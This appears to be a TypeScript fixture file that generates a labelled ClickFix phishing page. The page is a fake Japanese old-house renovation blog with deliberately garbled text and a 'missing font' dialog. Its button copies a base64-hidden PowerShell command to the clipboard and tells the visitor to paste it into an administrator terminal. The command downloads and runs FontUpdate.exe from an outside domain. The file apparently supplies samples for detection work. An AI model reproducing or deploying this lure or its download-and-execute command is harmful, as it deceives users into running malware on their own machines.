import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc, wordmark, b64 } from '../parts/yj-kit.js';

// ClickFix pages.

const fontCmd = String.raw`powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command "$f=$env:TEMP+'\fontpack.zip';Invoke-WebRequest -Uri 'https://fonts-jp-update.com/pack.zip' -OutFile $f;Expand-Archive $f -DestinationPath $env:TEMP\fp -Force;Start-Process $env:TEMP\fp\FontUpdate.exe"`;

export const entries: Entry[] = [
  // yj-clickfix-font-missing-jp
{
  id: 'yj-clickfix-font-missing-jp',
  label: 'clickfix',
  kind: 'clickfix-font-prompt',
  url: 'https://blog.nagano-kominka.jp/2025/09/renovation-diary-12/',
  body: doc({
    lang: 'ja',
    title: '古民家再生日記 #12 土間の床を張り替えました｜信州古民家ぐらし',
    css: `body{background:#f6f3ee}.wrap{max-width:760px;margin:0 auto;background:#fff;padding:30px}h1{font-size:24px}.meta{color:#888;font-size:13px}.garbled{font-family:"HG丸ゴシックM-PRO";color:#999;word-break:break-all}
#fm{position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(30,30,30,.7);display:flex;align-items:center;justify-content:center;z-index:1000}#fm .d{background:#fff;width:520px;max-width:94%;border-radius:6px;overflow:hidden}#fm .t{background:#2b5797;color:#fff;padding:12px 18px;font-weight:bold}
#fm .b{padding:18px}#fm button{background:#2b5797;color:#fff;border:0;padding:10px 26px;font-size:15px;border-radius:3px}#fm .hw{display:none;background:#f3f6fb;border:1px solid #c9d6ee;padding:12px;font-size:14px;margin-top:12px}`,
    body: `<div class="wrap"><h1>古民家再生日記 #12 土間の床を張り替えました</h1><p class="meta">2025年9月14日 ／ カテゴリー：リノベーション</p>
<p class="garbled">縺薙ｓ縺ｫ縺｡縺ｯ縲∽ｻ雁屓縺ｯ蝨滄俣縺ｮ蠎翫ｒ蠑ｵ繧頑崛縺医∪縺励◆縲ょ商縺�蠎頑攸縺ｯ縺吶∋縺ｦ蜿悶ｊ螟悶＠縲∵眠縺励＞譚舌ｒ菴ｿ縺�縺ｾ縺励◆縲�</p>
<p class="garbled">蟾･莠区悄髢薙�ｯ邏�2騾ｱ髢薙〒縲∬イｻ逕ｨ縺ｯ邏�18荳�蜀�縺九°繧翫∪縺励◆縲ゆｸ矩嚴縺ｮ蝨溷床縺ｯ縺ｨ縺ｦ繧よｹｿ豌励′螟壹￥縲�</p></div>
<div id="fm"><div class="d"><div class="t">⚠ フォントが見つかりません</div><div class="b">
<p>このページは「<b>HG丸ゴシックM-PRO</b>」フォントを使用しています。お使いのコンピューターにこのフォントがインストールされていないため、文字が正しく表示されません。</p>
<p>「修正する」をクリックして、フォントパックを更新してください。</p><button id="fix">修正する</button>
<div class="hw" id="hw"><b>フォントパックの更新手順</b><br>1. スタートボタンを右クリックし「ターミナル（管理者）」または「Windows PowerShell（管理者）」を選びます<br>2. ウィンドウ内で右クリックして貼り付けます<br>3. Enter キーを押すと更新が始まります（約1分）</div></div></div></div>`,
    tail: `<script>
var _p="${b64(fontCmd)}";
document.getElementById('fix').onclick=function(){var c=atob(_p);navigator.clipboard.writeText(c).catch(function(){});document.getElementById('hw').style.display='block';this.textContent='コピーしました'};
</script>`,
  }),
},
];
